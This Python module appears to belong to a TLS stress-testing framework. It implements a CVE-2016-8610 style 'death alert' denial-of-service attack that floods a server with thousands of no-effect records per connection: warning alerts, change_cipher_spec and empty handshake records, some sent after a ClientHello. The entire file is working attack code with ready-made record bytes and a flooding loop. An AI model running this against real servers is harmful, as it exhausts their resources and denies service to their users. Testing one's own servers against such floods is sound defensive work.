"""TLS records without effect, before and during the handshake: warnings (CVE-2016-8610,
death alert), change_cipher_spec, empty ones."""

from itertools import cycle

from attack import Attack, client_hello
from server_configurations import TLS

ATTACK = Attack()
WARNING = b"\x15\x03\x03\x00\x02\x01\x00"
CHANGE = b"\x14\x03\x03\x00\x01\x01"
EMPTY = b"\x16\x03\x03\x00\x00"


async def run(target):
    kinds = cycle([(before, record) for before in (b"", client_hello()) for record in (WARNING, CHANGE, EMPTY)])
    sent = 0

    async def stall(_):
        nonlocal sent
        before, record = next(kinds)
        reader, writer = await target.connect(TLS)
        try:
            writer.write(before)
            while target.left() > 0 and not reader.at_eof():
                writer.write(record * 1000)
                await writer.drain()
                sent += 1000
        finally:
            writer.transport.abort()

    times = await target.repeat(12, stall)
    return f"{sent} records over {times} connections"
